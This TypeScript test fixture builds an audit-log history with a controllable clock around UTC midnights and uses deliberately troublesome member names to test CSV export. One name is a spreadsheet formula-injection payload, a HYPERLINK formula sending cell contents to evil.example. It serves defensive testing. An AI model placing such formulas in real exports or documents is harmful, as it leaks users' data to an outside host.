// X1 tests: a real hub whose clock the test sets, with an audit log written
// the real way (invitations accepted through their links, an edit, a revoke,
// an export) at known moments around UTC midnights, by and to members whose
// names a spreadsheet would take for formulas. The audit filter tests, the
// desktop's CSV test and the browser test all read this one history.
import type { TestClient } from './test-client';
import type { TestHub } from './test-hub';
import { MEMBER_PASSWORD, OWNER_PASSWORD, startTestHub } from './test-hub';

/** Names a spreadsheet would run, or that carry scripts a CSV must keep intact (stored NFC by the hub). */
export const HOSTILE_NAMES = {
  ada: '=HYPERLINK("https://evil.example/?leak="&A1,"Ada")',
  mia: '@Miriam مريم 👩🏽‍💻',
  bo: '-Bo\u0308 "Quote", Comma',
} as const;

/**
 * The moments each step happened (UTC), chosen to sit on and around day
 * edges, in 2031: after the workspace was set up (on the real clock, which
 * wrote the first entry), so the log's order by id is also its order in time.
 */
export const AUDIT_TIMES = {
  adaJoined: Date.UTC(2031, 2, 2, 9, 0),
  /** Exactly midnight UTC: a day filter starting on 3 March includes it, one ending on 2 March does not. */
  adaPromoted: Date.UTC(2031, 2, 3, 0, 0),
  miaJoined: Date.UTC(2031, 2, 3, 12, 0),
  boJoined: Date.UTC(2031, 2, 4, 8, 0),
  boRevoked: Date.UTC(2031, 2, 5, 10, 0),
  /** The last millisecond of 5 March UTC. */
  membersExported: Date.UTC(2031, 2, 5, 23, 59, 59, 999),
} as const;

export interface AuditHistory {
  hub: TestHub;
  owner: TestClient;
  /** Manager Mia, signed in (she invited Bo). */
  mia: TestClient;
  ids: { owner: string; ada: string; mia: string; bo: string };
  /** The hub's clock: set it before a request to date what it records. */
  clock: { now: number };
}

/**
 * The log, oldest first (after the Owner's own entry from the workspace's setup):
 * - adaJoined: Olive invites Ada (Agent), Ada accepts;
 * - adaPromoted: Olive makes Ada a Manager;
 * - miaJoined: Olive invites Mia (Manager), Mia accepts;
 * - boJoined: Mia invites Bo (Agent), Bo accepts;
 * - boRevoked: Olive revokes Bo;
 * - membersExported: Olive exports the member list.
 */
export async function startAuditHistory(): Promise<AuditHistory> {
  const clock = { now: AUDIT_TIMES.adaJoined };
  const hub = await startTestHub({ now: () => clock.now });
  const owner = await hub.connect(hub.ownerEmail, OWNER_PASSWORD);
  const ownerId = ownerIdOf(owner);

  const ada = await hub.addMember(owner, 'ada@example.com', 'agent', {}, HOSTILE_NAMES.ada);
  clock.now = AUDIT_TIMES.adaPromoted;
  const baseVersion = (await hub.hub.store.members.byId(ada))?.version ?? 1;
  await owner.mutate('member.edit', { input: { memberId: ada, level: 'manager', baseVersion } });
  clock.now = AUDIT_TIMES.miaJoined;
  const miaId = await hub.addMember(owner, 'mia@example.com', 'manager', {}, HOSTILE_NAMES.mia);
  const mia = await hub.connect('mia@example.com', MEMBER_PASSWORD);
  clock.now = AUDIT_TIMES.boJoined;
  const bo = await hub.addMember(mia, 'bo@example.com', 'agent', {}, HOSTILE_NAMES.bo);
  clock.now = AUDIT_TIMES.boRevoked;
  await owner.mutate('member.revoke', { input: { memberId: bo, reassignContactsTo: null } });
  clock.now = AUDIT_TIMES.membersExported;
  await owner.call('members.export', { includeRows: false });
  clock.now = AUDIT_TIMES.membersExported + 60_000;
  return { hub, owner, mia, ids: { owner: ownerId, ada, mia: miaId, bo }, clock };
}

/** The Owner's member id, from the snapshot their socket received. */
function ownerIdOf(owner: TestClient): string {
  for (const message of owner.received) {
    if (message.type === 'snapshot.begin') return message.selfMemberId;
    if (message.type === 'snapshot') return message.snapshot.selfMemberId;
  }
  throw new Error('the Owner received no snapshot');
}
